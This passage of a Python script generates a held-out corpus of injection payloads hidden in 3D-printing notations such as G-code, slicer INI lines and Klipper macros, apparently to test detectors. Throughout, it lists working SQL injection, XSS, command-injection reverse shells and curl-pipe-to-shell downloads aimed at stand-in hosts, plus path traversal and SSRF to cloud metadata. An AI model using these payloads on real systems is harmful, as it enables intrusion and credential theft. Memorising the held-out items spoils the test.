"""Held-out ATTACK corpus for the maker / 3D-printing / CNC service theme.

Writes attacks.jsonl next to this file.  Each value is a payload that works
against a vulnerable application that places the value where its class says:
concatenated into SQL, a shell line, a file path, a server-side fetched URL, a
server-side template / deserializer / XML parser, HTML without escaping, a log
line or header, an LDAP filter or an XPath expression.  Most payloads are
hidden in the corpus's own notations (G-code comments, M117 messages, slicer
INI lines, Klipper macros, 3MF/SVG XML, STL names, order forms); about 10 %
are `plain-` classes and about 10 % carry an encoding (+url, +url2x,
+html-entity, +unicode-escape, +case-mix, +comment-space, +overlong-utf8,
alternative IP notations ...).

Class format: <context>-<technique>[+<encoding>].

All values are hand-written for this corpus (literals below) or come from small
templates over hand-written pools.  Attacker infrastructure is limited to
attacker.example, *.attacker.example, 203.0.113.0/24 and 198.51.100.0/24;
every secret/token is a fake placeholder.

Standard library only; fixed random.Random(SEED); byte-identical output on
every run, from any cwd, under any PYTHONHASHSEED.
"""

import json
import random
from pathlib import Path

SEED = 7002
PREFIX = "ha70"
MIN_LITERAL_SHARE = 0.80
MAX_LEN = 1800

# Final size per category (literals first, templates fill the rest).
TARGETS = {
    "sqli": 75, "xss": 78, "cmdi": 72, "traversal": 52, "ssrf": 55,
    "code": 79, "nosqli": 25, "crlf": 34, "ldap-xpath": 22,
}

# ---------------------------------------------------------------------------
# sqli
# ---------------------------------------------------------------------------
SQLI = [
    ("filament-search-union", "PETG%' UNION SELECT username, password_hash, NULL FROM users-- -"),
    ("filament-search-tautology", "PLA' OR '1'='1"),
    ("filament-search-time-blind", "Prusament' AND (SELECT SLEEP(5))-- "),
    ("filament-search-like-blind", "PLA' AND (SELECT password_hash FROM users WHERE id=1) LIKE '$2b$12$a%' AND 'x'='x"),
    ("filament-search-exists-blind", "Seiden-PLA grün' AND EXISTS(SELECT * FROM users WHERE role='admin' AND substr(email,1,1)='a')-- "),
    ("filament-search-conditional-error", "PLA' AND IF(1=1,(SELECT 1 UNION SELECT 2),1)-- -"),
    ("filament-search-order-by-probe", "PLA' ORDER BY 5-- -"),
    ("filament-search-union-null-probe", "PETG' UNION SELECT NULL,NULL,NULL-- "),
    ("filament-search-file-read", "PLA' UNION SELECT LOAD_FILE('/etc/passwd'), NULL-- -"),
    ("filament-search-into-outfile", "PLA' UNION SELECT '<?php system($_GET[\"c\"]); ?>', NULL INTO OUTFILE '/var/www/html/uploads/s.php'-- -"),
    ("filament-search-gtid-error", "ASA' AND GTID_SUBSET(CONCAT(0x7e,(SELECT @@hostname)),1)-- -"),
    ("filament-search-union+comment-space", "PLA'/**/UNION/**/SELECT/**/email,password_hash/**/FROM/**/users--"),
    ("filament-search-union+versioned-comment", "PLA' /*!50000UNION*/ /*!50000SELECT*/ email, api_token FROM users-- -"),
    ("filament-search-union+case-mix", "PlA' uNiOn SeLeCt NuLl, UsErNaMe FrOm UsErS-- "),
    ("filament-search-tautology+url", "PLA%27%20OR%20%271%27%3D%271"),
    ("filament-search-union+url2x", "PLA%2527%2520UNION%2520SELECT%2520email%252Cpassword_hash%2520FROM%2520users--"),
    ("filament-search-tautology-no-space", "PLA'or(1)=(1)#"),
    ("filament-search-union-newline", "PLA'\nUNION\nSELECT email, password_hash FROM users\n-- "),
    ("filament-search-tautology-tab", "PETG'\tOR\t1=1\t--\t"),
    ("order-id-tautology", "4471 OR 1=1"),
    ("order-id-union", "4471 UNION ALL SELECT id, email, api_token, NULL FROM customers"),
    ("order-id-stacked", "4471;DROP TABLE print_jobs--"),
    ("order-id-cast-error", "4471 AND 1=CAST((SELECT password FROM users LIMIT 1) AS int)"),
    ("order-id-extractvalue-error", "4471 AND extractvalue(1, concat(0x7e, (SELECT version())))"),
    ("order-id-time-blind", "4471 AND 1=(SELECT 1 FROM pg_sleep(5))"),
    ("order-id-boolean-blind", "4471 AND ASCII(SUBSTRING((SELECT api_key FROM printers WHERE id=1),1,1))>77"),
    ("order-id-stacked-xp-cmdshell", "4471; EXEC xp_cmdshell 'whoami'--"),
    ("order-id-stacked-copy-dollar-quote", "4471; CREATE TABLE t(x text); COPY t FROM $$/etc/passwd$$; SELECT x FROM t--"),
    ("order-id-union-hex-literal", "0 UNION SELECT id, email, 3 FROM users WHERE role=0x61646d696e"),
    ("sort-param-case-blind", "print_time,(CASE WHEN (SELECT substr(password_hash,1,1) FROM users WHERE role='admin')='$' THEN name ELSE created_at END)"),
    ("sort-param-time-blind", "(SELECT 1 FROM (SELECT SLEEP(4))x)"),
    ("gcode-comment-concat-subquery", "; filament_type = PETG'||(SELECT group_concat(email||':'||password_hash) FROM users)||'"),
    ("gcode-comment-stacked", ";Filament used: 3.81m'; UPDATE users SET role='admin' WHERE email='me@attacker.example'--"),
    ("gcode-comment-time-blind", "; printer_model = MK3S' AND 1=(SELECT 1 FROM pg_sleep(6))--"),
    ("slicer-ini-union", "filament_vendor = Generic' UNION SELECT name, sql FROM sqlite_master--"),
    ("slicer-ini-error-blind", "printer_model = MK4' AND 1=(SELECT CASE WHEN (SELECT COUNT(*) FROM users)>10 THEN 1 ELSE 1/0 END)--"),
    ("file-name-stacked", "benchy.stl'); DELETE FROM uploads;--"),
    ("file-name-updatexml-error", "x.stl' AND updatexml(1,concat(0x3a,(SELECT user())),1)-- -"),
    ("job-note-concat-subquery", "Layer shift at Z=12'||(SELECT token FROM sessions ORDER BY created DESC LIMIT 1)||'"),
    ("material-filter-tautology", "PLA') OR ('a'='a"),
    ("material-filter-union", "ABS') UNION SELECT table_name, column_name FROM information_schema.columns-- "),
    ("login-comment-bypass", "admin'-- "),
    ("login-hash-comment-bypass", "maker_admin'#"),
    ("login-tautology-limit", "' OR 1=1 LIMIT 1-- -"),
    ("printer-name-mssql-time-blind", "'; IF (SELECT COUNT(*) FROM sys.tables)>0 WAITFOR DELAY '0:0:5'--"),
    ("printer-name-oracle-union", "MK3S' UNION SELECT banner, NULL FROM v$version--"),
    ("printer-name-oracle-error", "Voron' AND 1=UTL_INADDR.get_host_name((SELECT user FROM dual))--"),
    ("printer-name-oracle-conditional-error", "Ender'||(SELECT CASE WHEN 1=1 THEN TO_CHAR(1/0) ELSE 'a' END FROM dual)||'"),
    ("spool-label-stacked-copy-program", "Jet Black'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh'--"),
    ("spool-label-sqlite-union", "Galaxy Black' UNION SELECT 1, sqlite_version(), 3--"),
    ("spool-label-heavy-query", "Urban Grey' AND 1=randomblob(300000000)-- "),
    ("api-json-tautology", '{"material": "PLA\' OR 1=1 -- ", "limit": 20}'),
    ("api-json-union+unicode-escape", '{"material": "PLA\\u0027 UNION SELECT email,password_hash FROM users--"}'),
    ("profile-name-tautology-dquote", 'Fine 0.12mm" OR ""="'),
    ("stl-header-concat", "solid bracket'||(SELECT version())||'"),
    ("3mf-metadata-tautology", "<metadata name=\"Title\">Gear' OR '1'='1</metadata>"),
    ("tolerance-field-tautology", "0.1) OR (1=1"),
    ("quantity-field-stacked-time", "1;SELECT pg_sleep(10)"),
    ("page-limit-procedure-analyse", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)"),
    ("order-note-mssql-declare-exec", "'; DECLARE @q varchar(99); SET @q='whoami'; EXEC master..xp_cmdshell @q;--"),
    ("order-note-mssql-having-error", "' HAVING 1=1--"),
    ("order-note-stacked-insert-char", "'; INSERT INTO users(email, role) VALUES (CHAR(109,101,64,97,116,116,97,99,107,101,114,46,101,120,97,109,112,108,101), 'admin')-- "),
    ("macro-param-union", "START_PRINT BED_TEMP=60 MATERIAL=PLA' UNION SELECT key, value FROM settings-- "),
    ("plain-tautology", "' OR 'x'='x"),
    ("plain-union", "1 UNION SELECT username, password FROM users"),
    ("plain-time-blind", "'; WAITFOR DELAY '0:0:7'--"),
    ("plain-comment-bypass", "admin' --"),
    ("plain-sleep", "1 AND SLEEP(5)"),
    ("plain-union-info-schema", "' AND 1=0 UNION ALL SELECT table_name FROM information_schema.tables-- -"),
    ("plain-tautology-dquote", '" OR 1=1 -- '),
]

SQL_MATERIALS = ["eSun PLA+", "Prusament PETG", "PolyTerra PLA", "Sunlu Silk", "Fiberlogy ASA",
                 "Extrudr TPU", "Bambu PLA Basic", "Overture PETG", "Spectrum PCTG", "Elegoo PLA Matte"]
SQL_TABLES = [("users", "email, password_hash"), ("printers", "name, api_key"),
              ("sessions", "user_id, token"), ("customers", "email, phone")]


def tpl_sqli(rng):
    mat = rng.choice(SQL_MATERIALS)
    kind = rng.randrange(4)
    if kind == 0:
        return ("filament-search-time-blind", "%s' AND SLEEP(%d)-- -" % (mat, rng.randint(3, 12)))
    if kind == 1:
        return ("filament-search-stacked-time", "%s'; SELECT pg_sleep(%d)--" % (mat, rng.randint(3, 12)))
    if kind == 2:
        table, cols = rng.choice(SQL_TABLES)
        return ("filament-search-union", "%s' UNION SELECT %s FROM %s-- " % (mat, cols, table))
    table, cols = rng.choice(SQL_TABLES)
    col = cols.split(", ")[1]
    return ("filament-search-boolean-blind", "%s' AND SUBSTRING((SELECT %s FROM %s LIMIT 1),%d,1)='%s" % (
        mat, col, table, rng.randint(1, 32), rng.choice("abcdef0123456789$")))


# ---------------------------------------------------------------------------
# xss
# ---------------------------------------------------------------------------
XSS = [
    ("m117-message-img-onerror", "M117 <img src=x onerror=alert(document.domain)>"),
    ("m117-message-svg-onload", "M117 Printing<svg onload=fetch('//attacker.example/c?'+document.cookie)>"),
    ("m117-message-unclosed-svg", "M117 <svg/onload=alert(1)//"),
    ("job-note-script-tag", "Layer shift again :( <script>new Image().src='https://attacker.example/k?c='+encodeURIComponent(document.cookie)</script>"),
    ("file-name-img-onerror", "benchy<img src=1 onerror=this.src='//attacker.example/?'+localStorage.getItem('moonraker_token')>.stl"),
    ("file-name-attr-breakout", 'Bracket_v2"><svg/onload=alert(1)>.3mf'),
    ("color-attr-event-handler", '#ff8800" onmouseover="alert(document.cookie)" x="'),
    ("color-attr-autofocus", "#FFAA00' autofocus onfocus='alert(1)"),
    ("forum-markdown-javascript-uri", "[Download STL](javascript:alert(document.cookie))"),
    ("forum-markdown-image-attr", '![benchy](x" onerror="alert(1))'),
    ("forum-post-href+html-entity", "Check my profile <a href=\"javascript&colon;fetch('//attacker.example/'+document.cookie)\">here</a>"),
    ("forum-post-href-hex+html-entity", '<a href="jav&#x61;script:alert(1)">PrusaSlicer profile</a>'),
    ("forum-post-href-decimal+html-entity", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">firmware.bin</a>'),
    ("dashboard-js-string-breakout", "benchy.gcode';fetch('https://attacker.example/x?'+document.cookie);//"),
    ("dashboard-js-script-close", "</script><script>alert(origin)</script>"),
    ("dashboard-js-string-backslash", "\\';alert(1);//"),
    ("dashboard-js-template-literal", "${alert(document.domain)}"),
    ("laser-svg-script", '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="50"><rect width="100" height="50" fill="none" stroke="red"/><script>alert(document.domain)</script></svg>'),
    ("laser-svg-anchor-javascript", '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text x="10" y="20">Cut here</text></a></svg>'),
    ("laser-svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("forum-post-details-ontoggle", '<details open ontoggle="alert(document.cookie)"><summary>Start gcode</summary>G28</details>'),
    ("forum-post-iframe-srcdoc+html-entity", '<iframe srcdoc="&lt;script&gt;parent.alert(document.domain)&lt;/script&gt;"></iframe>'),
    ("job-note-body-onpageshow", "Fertig :) Düse getauscht <body onpageshow=alert(1)>"),
    ("job-note-input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("job-note-video-source-onerror", '<video><source onerror="alert(1)"></video>'),
    ("order-note-formaction", "<form><button formaction=javascript:alert(1)>Confirm order</button></form>"),
    ("forum-post-animationstart", '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="alert(1)">PETG</p>'),
    ("m117-message-marquee", "M117 <marquee onstart=alert(1)>Print done!</marquee>"),
    ("forum-post-noscript-mxss", '<noscript><b title="</noscript><svg onload=alert(2)>"></b></noscript>'),
    ("job-note-dangling-markup", "Nozzle swapped <img src='https://attacker.example/log?html="),
    ("forum-post-base-hijack", '<base href="https://attacker.example/">'),
    ("forum-post-meta-refresh", '<meta http-equiv="refresh" content="0; url=https://attacker.example/login">'),
    ("profile-page-css-exfil", "<style>input[name=csrf][value^=a]{background:url(//attacker.example/a)}</style>"),
    ("forum-post-external-stylesheet", "<link rel=stylesheet href=//attacker.example/x.css>"),
    ("forum-post-angular-csti", "{{constructor.constructor('alert(1)')()}}"),
    ("forum-post-vue-csti", "{{_c.constructor('alert(document.domain)')()}}"),
    ("dashboard-js-string+unicode-escape", "';\\u0061lert(1)//"),
    ("job-note-event-handler+html-entity", '<img src=x onerror="&#x61;&#x6c;&#x65;&#x72;&#x74;(1)">'),
    ("job-note-img-onerror+case-mix", "<IMG SRC=x OnErRoR=alert(1)>"),
    ("search-reflected-script+url", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("search-reflected-svg+url2x", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("job-note-nested-strip", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("laser-svg-script+html-entity", "<svg><script>alert&#40;1&#41;</script>"),
    ("forum-post-href-tab", '<a href="java\tscript:alert(1)">settings</a>'),
    ("job-note-img-onerror+base64", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("m117-message-svg-redirect", "M117 <svg onload=location='//attacker.example/?c='+document.cookie>"),
    ("job-note-dynamic-import", "<img src=x onerror=import('//attacker.example/m.js')>"),
    ("forum-post-external-script", "<script src=//attacker.example/hook.js></script>"),
    ("forum-post-iframe-javascript", '<iframe src="javascript:alert(parent.document.domain)">'),
    ("order-note-textarea-autofocus", "<textarea autofocus onfocus=alert(1)>"),
    ("order-note-select-autofocus", "<select onfocus=alert(1) autofocus>"),
    ("job-note-audio-onerror", "<audio src onerror=alert(1)>"),
    ("profile-json-script-close", '{"name":"</script><svg onload=alert(1)>"}'),
    ("filament-class-unquoted-attr", "swatch onmouseover=alert(1) style=display:block;width:100%;height:100%"),
    ("model-link-javascript-uri", "javascript:alert(document.domain)//https://www.printables.com/model/1"),
    ("klipper-console-m118", "M118 <img src=x onerror=alert(1)>"),
    ("klipper-respond-anchor", 'RESPOND TYPE=command MSG="<a href=javascript:alert(1)>click to resume</a>"'),
    ("macro-description-img", "[gcode_macro X]\ndescription: <img src=x onerror=alert(1)>\ngcode:\n  G28"),
    ("customizer-param-title-breakout", "label = \"Zoe's Box</title><script>alert(1)</script>\";"),
    ("laser-svg-foreignobject", '<svg><foreignObject width="100" height="50"><iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe></foreignObject></svg>'),
    ("forum-post-xmp-mxss", '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'),
    ("job-note-pointerenter", "<div onpointerenter=alert(1) style=position:fixed;inset:0>hover</div>"),
    ("job-note-concat-evasion", "<img src=x:x onerror=window['al'+'ert'](1)>"),
    ("job-note-regex-source-evasion", "<img src=x onerror=top[/al/.source+/ert/.source](1)>"),
    ("m117-message-tagged-template+hex-escape", "M117 <svg onload=setTimeout`alert\\x281\\x29`>"),
    ("forum-post-href+url", '<a href="javascript:%61lert(1)">x</a>'),
    ("job-note-backtick-call+html-entity", '<img src="x" onerror="&#97;lert`1`">'),
    ("search-reflected-script+overlong-utf8", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    ("search-reflected-script+utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("3mf-metadata-script", '<metadata name="Designer">Ana<script>alert(document.domain)</script></metadata>'),
    ("plain-script-tag", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg-onload", "<svg onload=alert(1)>"),
    ("plain-javascript-uri", "javascript:alert(1)"),
    ("plain-attr-breakout", '"><script>alert(document.domain)</script>'),
    ("plain-body-onload", "<body onload=alert('xss')>"),
    ("plain-single-quote-breakout", "'><img src=x onerror=prompt(1)>"),
]

XSS_PREFIXES = ["Print done!", "Layer 12/80", "PETG test #3", "Nozzle cleaned", "Spool empty",
                "Ready for pickup", "Bed mesh OK", "Bitte abholen", "Impression terminée", "印刷完了"]
XSS_VECTORS = [("img-onerror", "<img src=x onerror=%s>"), ("svg-onload", "<svg onload=%s>"),
               ("details-ontoggle", "<details open ontoggle=%s>"), ("video-onerror", "<video src=x onerror=%s>"),
               ("input-onfocus", "<input autofocus onfocus=%s>")]
XSS_ACTIONS = ["alert(document.domain)", "alert(document.cookie)", "fetch('//attacker.example/'+document.cookie)",
               "navigator.sendBeacon('//attacker.example/b',localStorage.token)", "print()",
               "location='//attacker.example/p?'+document.cookie"]


def tpl_xss(rng):
    name, vec = rng.choice(XSS_VECTORS)
    ctx = rng.choice(["job-note", "m117-message", "order-note"])
    prefix = rng.choice(XSS_PREFIXES)
    if ctx == "m117-message":
        prefix = "M117 " + prefix
    return ("%s-%s" % (ctx, name), "%s %s" % (prefix, vec % rng.choice(XSS_ACTIONS)))


# ---------------------------------------------------------------------------
# cmdi
# ---------------------------------------------------------------------------
CMDI = [
    ("slice-filename-semicolon", "benchy.stl; curl -s http://attacker.example/i.sh | sh"),
    ("slice-filename-and", "bracket.3mf && wget -qO- 203.0.113.7/p | bash"),
    ("slice-filename-pipe", "lid.stl | nc 203.0.113.9 4444 -e /bin/sh"),
    ("slice-filename-subshell", "gear_$(id).stl"),
    ("slice-filename-backtick", "spacer`uname -a`.stl"),
    ("slice-filename-newline", "clip.stl\ncat /home/pi/printer_data/config/moonraker.secrets"),
    ("slice-filename-quote-breakout-revshell", "case.stl' ; bash -i >& /dev/tcp/198.51.100.4/9001 0>&1 ; '"),
    ("slice-filename-quote-breakout-python", 'knob.stl"; python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.12",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'; "'),
    ("slicer-ini-post-process", 'post_process = /bin/sh -c "curl -fsS http://attacker.example/x | sh"'),
    ("slicer-ini-post-process-windows", r'post_process = "C:\Windows\System32\cmd.exe" /c powershell -nop -w hidden -c "iex(iwr http://attacker.example/a.ps1 -UseBasicParsing)";'),
    ("slicer-cli-argument-injection", "--post-process \"sh -c 'id > /tmp/owned'\""),
    ("firmware-flash-port-semicolon", "/dev/ttyUSB0; id"),
    ("firmware-flash-argument-injection", "/dev/ttyACM0 -U flash:w:/tmp/evil.hex:i"),
    ("arduino-fqbn-subshell-ifs", "arduino:avr:nano$(curl${IFS}attacker.example/s|sh)"),
    ("printer-ip-semicolon", "192.168.1.42; cat /etc/shadow"),
    ("printer-ip-pipe", "192.168.1.42|busybox nc 203.0.113.3 1234 -e sh"),
    ("printer-ip-newline+url", "192.168.1.42%0Aid"),
    ("printer-ip-and+url", "192.168.1.42%26%26whoami"),
    ("printer-ip-subshell-time", "192.168.1.42$(sleep 10)"),
    ("printer-ip-and-time", "192.168.1.42 && ping -c 10 127.0.0.1"),
    ("timelapse-fps-and-exfil", "30 && curl -F f=@/home/pi/printer_data/config/moonraker.conf https://attacker.example/u"),
    ("timelapse-fps-subshell", "30$(wget -qO /tmp/t attacker.example/t)"),
    ("webcam-device-mkfifo-revshell", "/dev/video0;rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f"),
    ("customizer-define-quote-breakout", "length=120' ; touch /tmp/pwn ; echo '"),
    ("customizer-define-dquote-subshell", 'label="$(cat /etc/passwd)"'),
    ("macro-param-semicolon", 'BACKUP_CFG NOTE="nightly; curl -s attacker.example/k | sh"'),
    ("macro-param-newline", 'RUN_SHELL_COMMAND CMD=backup_cfg PARAMS="nightly\ncurl -s attacker.example/n | sh"'),
    ("macro-repo-url-argument-injection", "--upload-pack=sh -c 'id>/tmp/o' ./repo"),
    ("backup-name-tar-checkpoint", "cfg_backup.tgz --checkpoint=1 --checkpoint-action=exec=sh /tmp/run.sh"),
    ("file-search-find-exec", "*.gcode -exec sh -c 'curl attacker.example/f|sh' ;"),
    ("webhook-url-curl-output", "https://attacker.example/key.pub -o /home/pi/.ssh/authorized_keys"),
    ("webhook-url-wget-post-file", "--post-file=/home/pi/printer_data/config/moonraker.secrets https://attacker.example/in"),
    ("win-filename-ampersand", r"part.stl & type C:\ProgramData\PrintFarm\config.ini"),
    ("win-filename-powershell+base64", "part.stl | powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBhAHQAdABhAGMAawBlAHIALgBlAHgAYQBtAHAAbABlAC8AcAAuAHAAcwAxACAALQBVAHMAZQBCAGEAcwBpAGMAUABhAHIAcwBpAG4AZwApAA=="),
    ("win-filename-ampersand-caret", "part.stl & w^h^o^a^m^i"),
    ("slice-filename-semicolon-ifs", "x.stl;cat${IFS}/etc/passwd"),
    ("slice-filename-semicolon-brace", "x.stl;{cat,/etc/passwd}"),
    ("slice-filename-semicolon-glob", "x.stl;/???/??t /???/p??s??"),
    ("slice-filename-semicolon-quote-splitting", "x.stl;c'a't /e\"t\"c/pas\\swd"),
    ("slice-filename-subshell-printf-hex", "x.stl;$(printf '\\x69\\x64')"),
    ("slice-filename-pipe+base64", "x.stl;echo Y3VybCAtcyBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS9zLnNofHNo|base64 -d|sh"),
    ("slice-filename-semicolon-var-concat", "x.stl;c=cu;d=rl;$c$d -s attacker.example/q|sh"),
    ("slice-filename-newline+url", "benchy.stl%0acurl%20attacker.example%2fx%7csh"),
    ("slice-filename-semicolon+url2x", "benchy.stl%253Bid"),
    ("slice-filename-time-blind", "benchy.stl;sleep 15;"),
    ("slice-filename-backtick-time", "benchy.stl`sleep 9`"),
    ("slice-filename-dns-exfil", "benchy.stl;nslookup $(whoami).oob.attacker.example"),
    ("slice-filename-dig-exfil", "benchy.stl;dig +short $(hostname).attacker.example"),
    ("slice-filename-process-substitution", "x.stl;bash <(curl -s attacker.example/b)"),
    ("slice-filename-or", "missing.stl||id"),
    ("slice-filename-background", "x.stl&id&"),
    ("backup-schedule-crontab", "* * * * * curl -s attacker.example/c|sh #"),
    ("backup-schedule-newline", "0 3 * * *\n* * * * * root /bin/sh -c 'curl attacker.example/c|sh'"),
    ("legacy-open-pipe", "|/bin/sh -c 'curl attacker.example/p|sh'"),
    ("spool-label-quote-breakout", 'PLA weiß" ; lp -d label /etc/passwd ; "'),
    ("slice-filename-semicolon-tab", "x.stl;cat\t/etc/passwd"),
    ("slice-filename-semicolon-var-substring", "x.stl;${PATH:0:1}bin${PATH:0:1}id"),
    ("slice-filename-semicolon-ansi-c-quote", "x.stl;$'\\x69\\x64'"),
    ("win-filename-powershell-download", 'x.stl & powershell -c "Invoke-WebRequest http://203.0.113.8/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe"'),
    ("win-filename-for-dns-exfil", "x.stl & for /f %i in ('whoami') do nslookup %i.attacker.example"),
    ("win-filename-ping-time", "x.stl &ping -n 12 127.0.0.1&"),
    ("thumbnail-size-semicolon", "300x300; wget http://198.51.100.14/m -O /tmp/m; sh /tmp/m"),
    ("gcode-comment-subshell", "; printer_model = MK3S$(curl -s attacker.example/g|sh)"),
    ("plain-subshell", "$(curl -s attacker.example/x)"),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| cat /etc/passwd"),
    ("plain-and", "&& whoami"),
    ("plain-backtick", "`id`"),
    ("plain-subshell-time", "$(sleep 5)"),
    ("plain-netcat", "; nc -e /bin/sh 203.0.113.1 4444"),
]

CMD_FILES = ["benchy.stl", "lid_v2.stl", "gear_17T.3mf", "bracket-left.step", "cable_clip.stl", "knob.obj",
             "spacer_5mm.stl", "enclosure.3mf"]
CMD_SEPS = [("semicolon", "; %s"), ("and", " && %s"), ("pipe", " | %s"), ("subshell", "$(%s)"),
            ("backtick", "`%s`"), ("newline", "\n%s")]
CMD_CMDS = ["id", "uname -a", "cat /etc/passwd", "curl -s attacker.example/t.sh|sh", "wget -qO- 198.51.100.21/r|sh",
            "sleep 8", "nslookup x.attacker.example", "cat ~/printer_data/config/moonraker.secrets"]


def tpl_cmdi(rng):
    sep_name, sep = rng.choice(CMD_SEPS)
    return ("slice-filename-%s" % sep_name, rng.choice(CMD_FILES) + sep % rng.choice(CMD_CMDS))


# ---------------------------------------------------------------------------
# traversal
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("gcode-download-dotdot", "../../printer_data/config/moonraker.secrets"),
    ("gcode-download-dotdot-ssh", "gcodes/../../.ssh/id_rsa"),
    ("gcode-download-strip-once", "....//....//....//etc/shadow"),
    ("gcode-download-dotdot+url", "..%2f..%2f..%2fetc%2fpasswd"),
    ("gcode-download-dotdot-history+url", "%2e%2e%2f%2e%2e%2f%2e%2e%2fhome%2fpi%2f.bash_history"),
    ("gcode-download-dotdot+url2x", "..%252f..%252f..%252fetc%252fhostname"),
    ("gcode-download-dotdot+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("gcode-download-dotdot-slash+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("win-download-backslash", r"..\..\..\Windows\win.ini"),
    ("win-download-backslash+url", "..%5c..%5c..%5cUsers%5cPublic%5cDocuments%5cPrintFarm%5cconfig.ini"),
    ("gcode-download-absolute-procfs", "/proc/self/environ"),
    ("gcode-download-suffix-dotdot", "benchy.gcode/../../../../../etc/passwd"),
    ("gcode-download-dotdot-nullbyte", "../../../../etc/passwd%00.gcode"),
    ("stl-upload-dotdot-raw-nul", "../../../../etc/passwd\x00.stl"),
    ("3mf-entry-zip-slip", "3D/../../../../home/pi/.ssh/authorized_keys"),
    ("3mf-entry-zip-slip-webroot", "Metadata/../../../../../var/www/html/shell.php"),
    ("klipper-include-dotdot", "[include ../../../../etc/passwd]"),
    ("klipper-include-absolute", "[include /home/pi/printer_data/config/moonraker.secrets]"),
    ("openscad-include-dotdot", "include <../../../../../../etc/passwd>"),
    ("openscad-import-dotdot", 'import("../../../../../srv/printfarm/private/customer_4471/secret_part.stl");'),
    ("theme-name-dotdot", "../../../../../../etc/passwd"),
    ("lang-file-dotdot-nullbyte", "../../../../../../proc/self/cmdline%00"),
    ("log-viewer-suffix-dotdot", "klippy.log/../../../../../../etc/shadow"),
    ("webcam-path-semicolon-dotdot", "/webcam/..;/..;/admin/config"),
    ("static-path-dotdot+url", "/static/..%2f..%2f..%2fapp%2fsettings.py"),
    ("gcode-download-dots-slash+url2x", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("win-download-dotdot+iis-unicode", "..%u2215..%u2215..%u2215windows%u2215win.ini"),
    ("gcode-download-mixed-slashes", "..\\/..\\/..\\/etc/passwd"),
    ("gcode-download-absolute-prefix-dotdot", "/var/lib/octoprint/../../../etc/passwd"),
    ("gcode-download-absolute-octoprint", "/home/pi/.octoprint/users.yaml"),
    ("win-download-absolute", r"C:\Windows\System32\drivers\etc\hosts"),
    ("file-param-dotdot+url", "file=..%2F..%2F..%2F..%2Fproc%2Fself%2Fenviron&download=1"),
    ("gcode-download-deep", "../../../../../../../../../../../../etc/hosts"),
    ("gcode-download-dotdot+fullwidth", "．．／．．／．．／etc／passwd"),
    ("gcode-download-dotdot+url-fullwidth", "..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd"),
    ("gcode-download-strip-once-dots", "..././..././..././etc/passwd"),
    ("gcode-download-dots-only+url", "gcodes/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("gcode-download-absolute-dotdot-root", "/home/pi/printer_data/gcodes/../../../../root/.bash_history"),
    ("lang-file-php-filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("win-download-backslash-webconfig", r"..\..\..\..\inetpub\wwwroot\web.config"),
    ("thumbnail-path-dotdot", "thumbs/../../../../var/log/auth.log"),
    ("gcode-download-devfd-procfs", "/dev/fd/../environ"),
    ("stl-preview-suffix-dotdot", "model.stl/../../../../../../etc/ssh/sshd_config"),
    ("profile-import-dotdot", "../../../../home/pi/.config/cura/5.6/cura.cfg"),
    ("plain-dotdot", "../../../etc/passwd"),
    ("plain-dotdot-windows", r"..\..\..\..\..\windows\system32\config\sam"),
    ("plain-absolute", "/etc/shadow"),
    ("plain-dotdot-hosts", "../../../../etc/hosts"),
    ("plain-dotdot-deep", "../../../../../etc/passwd"),
]

TRAV_PREFIXES = ["", "gcodes/", "uploads/", "thumbs/", "config/", "timelapse/", "models/customer_17/"]
TRAV_TARGETS = ["etc/passwd", "etc/shadow", "home/pi/.ssh/id_ed25519", "home/pi/printer_data/config/moonraker.conf",
                "proc/self/environ", "root/.bash_history", "var/log/auth.log", "etc/nginx/nginx.conf"]


def tpl_traversal(rng):
    depth = rng.randint(3, 9)
    target = rng.choice(TRAV_TARGETS)
    prefix = rng.choice(TRAV_PREFIXES)
    if rng.random() < 0.6:
        return ("gcode-download-dotdot", prefix + "../" * depth + target)
    return ("gcode-download-dotdot-backslash", prefix + "..\\" * depth + target.replace("/", "\\"))


# ---------------------------------------------------------------------------
# ssrf
# ---------------------------------------------------------------------------
SSRF = [
    ("model-import-url-cloud-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("model-import-url-user-data", "http://169.254.169.254/latest/user-data"),
    ("model-import-url-ipv6-metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("model-import-url-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
